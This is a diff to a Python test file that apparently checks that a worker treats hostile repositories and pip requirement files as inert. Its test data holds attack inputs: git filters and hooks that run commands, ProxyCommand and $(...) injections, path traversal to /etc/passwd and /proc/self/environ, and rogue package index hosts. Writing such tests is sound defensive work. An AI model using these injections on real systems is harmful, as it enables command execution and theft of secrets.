@@ -145,7 +145,7 @@ def test_hostile_names_links_and_settings_of_git_do_nothing(
         '[submodule "z"]\n\tpath = -rf\n\turl = ssh://-oProxyCommand=touch%20canary/z\n'
     )
     (work / ".gitattributes").write_text(
-        "* filter=run text eol=crlf\n*.py export-subst ident diff=run merge=run working-tree-encoding=UTF-16\n"
+        "* filter=run text eol=crlf\n*.py export-subst ident diff=run working-tree-encoding=UTF-16\n"
     )
     (work / ".gitconfig").write_text('[core]\n\thooksPath = hooks\n[filter "run"]\n\tsmudge = touch canary\n')
     for hooks in ("hooks", ".githooks", "shop/git/hooks", "x.git/hooks"):
@@ -271,8 +271,19 @@ def test_a_directory_in_the_place_of_gits_own_runs_nothing(
         )
 
 
-@pytest.mark.parametrize("target", ["/etc/passwd", "/proc/self/environ", "/proc/self/root/etc/passwd", "/dev/zero",
-                                    "../../../../../../etc/passwd", "settings.py", ".", "../..", "/proc/self/fd/0"])  # fmt: skip
+@pytest.mark.parametrize(
+    "target",
+    [
+        "/etc/passwd",
+        "/proc/self/environ",
+        "/proc/self/root/etc/passwd",
+        "/dev/zero",
+        "../../../../../../etc/passwd",
+        "settings.py",
+        ".",
+        "../..",
+    ],
+)
 @pytest.mark.parametrize(
     "path", ["shop/manage.py", "shop/shop/settings.py", "shop/shop", "requirements.txt", ".env"]
 )
@@ -294,10 +305,10 @@ def test_a_link_in_the_place_of_a_source_file_shows_nothing_of_the_worker(
 @pytest.mark.parametrize(
     "lines",
     [
-        "--index-url https://evil.example/simple\n--extra-index-url=http://evil.example\n--trusted-host evil.example",
+        "--index-url https://evil.example/simple\n--extra-index-url=http://e.example\n--trusted-host e.example",
         "-e git+ext::sh%20-c%20touch%20canary#egg=x\n-e git+file:///etc#egg=y\n-e ../../../../etc",
         "x --global-option='--x; touch canary' --config-settings='a=$(touch canary)' --install-option=id",
-        "-r /etc/passwd\n-r ../../../../../etc/passwd\n-c /proc/self/environ\n-r file:///etc/passwd\n-r http://[::1]/x",
+        "-r /etc/passwd\n-r ../../../../../etc/passwd\n-c /proc/self/environ\n-r file:///etc/passwd\n-r http://[::1]",
         "-r -r\n-r --help\n-r $(touch canary)\n-r ${HOME}/x\n--requirement=/etc/passwd\n-rrequirements.txt",
         "--find-links /etc\n-f file:///etc\n--process-dependency-links\n--python=/etc/passwd\n--no-binary :all:",
         "x @ file:///etc/passwd\ny @ git+ssh://-oProxyCommand=id/x\nz@https://user:secret@evil.example/z.whl",
